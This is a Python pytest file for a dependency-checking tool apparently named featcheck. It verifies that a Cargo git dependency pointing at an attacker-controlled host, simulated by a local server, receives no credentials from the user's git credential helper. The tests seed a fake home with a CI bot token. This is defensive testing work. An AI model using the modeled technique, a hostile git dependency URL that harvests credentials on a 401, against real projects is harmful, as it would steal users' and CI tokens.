"""No credential of the user's goes to a host that a git dependency of the checkout names.

`helper = { git = "http://HOST/x.git" }` makes cargo fetch from HOST; on a 401, git asks the
user's credential helpers and sends what they answer. The attacker's host here is a local
HTTP server on 127.0.0.1 that answers 401 and keeps every Authorization header it is sent;
the user's home has a credential helper that answers for any host, as CI's often do.
"""

from __future__ import annotations

import os
import shutil
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest
from hostile_support import run_with
from hostile_world import CREDENTIAL_HELPER, GIT_SECRET, FakeHost

pytestmark = [
    pytest.mark.cargo,
    pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed"),
]


@pytest.fixture
def attacker() -> Iterator[FakeHost]:
    host = FakeHost()
    host.start()
    try:
        yield host
    finally:
        host.stop()


def _project(directory: Path, dependency: str) -> Path:
    (directory / "src").mkdir(parents=True)
    (directory / "src" / "main.rs").write_text("fn main() {}\n")
    (directory / "Cargo.toml").write_text(
        '[package]\nname = "app"\nversion = "0.1.0"\nedition = "2021"\n\n'
        f"[dependencies]\nhelper = {{ {dependency} }}\n"
    )
    return directory


def _users_home(tmp_path: Path) -> Path:
    """A home whose git answers every host with the CI bot's token."""
    home = tmp_path / "user-home"
    home.mkdir()
    (home / ".gitconfig").write_text(f"[credential]\n\thelper = {CREDENTIAL_HELPER}\n")
    (home / ".git-credentials").write_text(f"http://ci-bot:{GIT_SECRET}@127.0.0.1\n")
    return home


def test_a_git_dependency_gets_no_credentials(tmp_path: Path, attacker: FakeHost) -> None:
    project = _project(tmp_path / "checkout", f'git = "http://{attacker.address}/x.git"')
    done = run_with(
        [str(project)],
        {
            "HOME": str(_users_home(tmp_path)),
            "CARGO_HOME": str(tmp_path / "cargo-home"),
            "XDG_CACHE_HOME": str(tmp_path / "cache"),
            "SSH_AUTH_SOCK": str(tmp_path / "agent.sock"),
            # Credentials would go with the host's first refusal; cargo's retries of the
            # fetch (3, seconds apart) would only ask again.
            "CARGO_NET_RETRY": "0",
        },
        timeout=120,
    )
    seen = attacker.take()
    assert seen, "cargo never asked the host: the test proves nothing"
    assert all(authorization is None for _, _, authorization in seen), seen
    assert done.returncode == 2
    lines = done.stderr.strip().splitlines()
    assert len(lines) == 1 and "Traceback" not in done.stderr
    assert "featcheck offers git no credentials" in lines[0]


def test_a_git_dependency_that_needs_none_still_resolves(tmp_path: Path) -> None:
    """A public (here: local) git repository is fetched as before."""
    library = tmp_path / "helper"
    (library / "src").mkdir(parents=True)
    (library / "src" / "lib.rs").write_text("")
    (library / "Cargo.toml").write_text(
        '[package]\nname = "helper"\nversion = "0.1.0"\nedition = "2021"\n'
    )
    identity = {"GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@e", "GIT_COMMITTER_NAME": "t"}
    environment = {**os.environ, **identity, "GIT_COMMITTER_EMAIL": "t@e"}
    for arguments in (["init", "-q"], ["add", "-A"], ["commit", "-q", "-m", "one"]):
        subprocess.run(["git", "-C", str(library), *arguments], check=True, env=environment)
    project = _project(tmp_path / "checkout", f'git = "file://{library}"')
    done = run_with(
        [str(project)],
        {"CARGO_HOME": str(tmp_path / "cargo-home"), "XDG_CACHE_HOME": str(tmp_path / "cache")},
        timeout=120,
    )
    assert done.returncode == 0, done.stderr
    assert "no findings" in done.stdout + done.stderr
